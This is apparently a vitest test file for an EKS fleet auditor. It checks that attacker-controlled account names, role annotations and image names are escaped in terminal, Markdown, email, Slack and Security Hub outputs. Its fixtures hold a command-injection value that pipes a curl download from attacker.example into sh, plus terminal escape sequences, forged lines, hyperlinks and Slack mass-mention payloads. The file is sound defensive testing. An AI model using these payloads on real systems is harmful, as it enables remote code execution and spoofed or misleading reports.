/**
 * Values written by someone who should not be able to reach a person (issue 14, items 6 and 7):
 * a member-account admin's account name, a cluster admin's ServiceAccount annotation and aws-node
 * image. One audit against the simulator, then every output: terminal, Markdown, the JSON report,
 * the email, the Slack message and the Security Hub findings.
 */
import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildHandler } from '../../functions/audit.js';
import { renderMarkdown, renderText } from '../../lib/report/render.js';
import type { RunOutcome } from '../../lib/run.js';
import { startSimulator, type Simulator, type SimOrgInput } from '../sim/server.js';
import { DEMO_BUCKET, DEMO_TOPIC_ARN, lambdaContext, simulatorEnv, withEnv } from '../support/local-lambda.js';

const MGMT = '111111111111';
const MEMBER = '222222222222';
const ACCOUNT_NAME = 'Evil [click](https://attacker.example/x) @here <!channel> <b>bold</b>\u001b[31mred\nFORGED LINE';
const ROLE_ANNOTATION = 'arn:aws:iam::222222222222:role/cni $(curl https://attacker.example/p|sh)';
const IMAGE = '123456789012.dkr.ecr.us-east-1.amazonaws.com/mirror\u001b]8;;https://attacker.example\u0007/amazon-k8s-cni\u001b[2J\nFORGED IMAGE LINE:v1.15.1';

const org: SimOrgInput = {
  managementAccountId: MGMT,
  buckets: [DEMO_BUCKET],
  topics: [DEMO_TOPIC_ARN],
  accounts: [
    { id: MGMT, name: 'management' },
    {
      id: MEMBER,
      name: ACCOUNT_NAME,
      regions: {
        'us-east-1': {
          clusters: [
            { name: 'hijacked', version: '1.29', selfManagedCni: { image: IMAGE, roleArn: ROLE_ANNOTATION, env: { WARM_IP_TARGET: '5' } } },
            { name: 'managed', version: '1.29', addons: { 'vpc-cni': { addonVersion: 'v1.15.1-eksbuild.1', serviceAccountRoleArn: null } } },
          ],
        },
      },
    },
  ],
  addonVersions: {
    'vpc-cni': ['v1.18.0-eksbuild.1', 'v1.17.1-eksbuild.1', 'v1.16.4-eksbuild.2', 'v1.15.1-eksbuild.1'].map((addonVersion) => ({ addonVersion, compatibilities: [{ clusterVersion: '1.29' }] })),
  },
};

let sim: Simulator;
let outcome: RunOutcome;
const outputs: Record<string, string> = {};

beforeAll(async () => {
  sim = await startSimulator({ org });
  const scheduled = JSON.parse(await readFile('events/scheduled.json', 'utf8')) as unknown;
  await withEnv(simulatorEnv(sim, { AUDIT_REGIONS: 'us-east-1' }), () => buildHandler({ onOutcome: (o) => (outcome = o) })(scheduled, lambdaContext()));
  const message = JSON.parse(sim.records.sns[0]!.message) as { default: string; https: string };
  outputs.text = renderText(outcome);
  outputs.markdown = renderMarkdown(outcome);
  outputs.report = JSON.stringify(outcome.report);
  outputs.email = message.default;
  outputs.slack = message.https;
  outputs.asff = JSON.stringify(sim.records.securityHubImports.flatMap((i) => i.findings));
});

afterAll(async () => {
  await sim.stop();
});

describe('hostile values through every output', () => {
  it('judged the hostile cluster: the run went through', () => {
    expect(outcome.report.findings.filter((f) => f.clusterName === 'hijacked').map((f) => f.ruleId)).toContain('vpc-cni-unofficial-image');
    expect(Object.keys(outputs).every((k) => outputs[k]!.length > 0)).toBe(true);
  });

  it.each(['text', 'markdown', 'email', 'report', 'slack', 'asff'])('%s: the role annotation is named invalid and never reaches a command', (kind) => {
    const output = outputs[kind]!;
    expect(output).not.toContain('attacker.example/p');
    expect(output).not.toContain('$(curl');
  });

  it.each(['text', 'markdown', 'email'])('%s: no escape sequence, no forged line', (kind) => {
    const output = outputs[kind]!;
    // eslint-disable-next-line no-control-regex
    expect(output).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(output).not.toMatch(/^FORGED/m);
  });

  it.each(['report plans', 'slack', 'asff'])('%s: no raw control character in any JSON string', (kind) => {
    // The report keeps the facts as read (JSON escapes them; renderers escape them for people); its plans are text for people.
    const json = kind === 'report plans' ? JSON.stringify(outcome.report.plans) : outputs[kind]!;
    const strings: string[] = [];
    JSON.parse(json, (key, value: unknown) => (typeof value === 'string' && key !== 'accountName' && strings.push(value), value));
    // eslint-disable-next-line no-control-regex
    for (const s of strings) expect(s).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  });

  it('names the invalid annotation in the plan of the cluster', () => {
    const plan = outcome.report.plans?.find((p) => p.clusterName === 'hijacked');
    expect(plan?.invalid).toContainEqual({ what: 'IAM role ARN (aws-node ServiceAccount annotation eks.amazonaws.com/role-arn)', reason: expect.stringContaining('not a valid IAM role ARN') });
    expect(outputs.text).toContain('Left out of the commands: IAM role ARN (aws-node ServiceAccount annotation eks.amazonaws.com/role-arn)');
    expect(outcome.report.clusters.find((c) => c.clusterName === 'hijacked')?.cni.serviceAccountRoleArn).toBe('(not an IAM role ARN)');
  });

  it('markdown: no live link, no raw HTML, no mention from an account name', () => {
    expect(outputs.markdown).not.toMatch(/(?<!\\)\]\(https?:/);
    expect(outputs.markdown).not.toContain('https://attacker');
    expect(outputs.markdown).not.toContain('<b>');
    expect(outputs.markdown).not.toContain('<!channel>');
    expect(outputs.markdown).toContain('Evil \\[click\\]');
  });

  it('slack: no live link, no @here, no <!channel>', () => {
    const slack = JSON.parse(outputs.slack!) as { content: { description: string; nextSteps: string[] } };
    const text = [slack.content.description, ...slack.content.nextSteps].join('\n');
    expect(text).not.toMatch(/@here|<!channel>|<b>|https:\/\/attacker/);
    expect(text).toContain('&lt;!channel&gt;');
  });

  it('email: the account name reads as text, its URL not linked', () => {
    expect(outputs.email).toContain('Evil [click](https:\u200b//attacker.example/x) @here &lt;!channel&gt;'.replace('&lt;', '<').replace('&gt;', '>'));
    expect(outputs.email).not.toContain('https://attacker');
  });

  it('asff: every command in a recommendation is one the plan made from validated values', () => {
    const findings = JSON.parse(outputs.asff!) as { Remediation?: { Recommendation?: { Text?: string } }; ProductFields?: Record<string, string> }[];
    for (const f of findings) {
      expect(f.Remediation?.Recommendation?.Text?.length ?? 0).toBeLessThanOrEqual(512);
      expect(f.ProductFields?.['eks-fleet-auditor/AccountName']).not.toMatch(/\n|\u001b/);
    }
  });
});
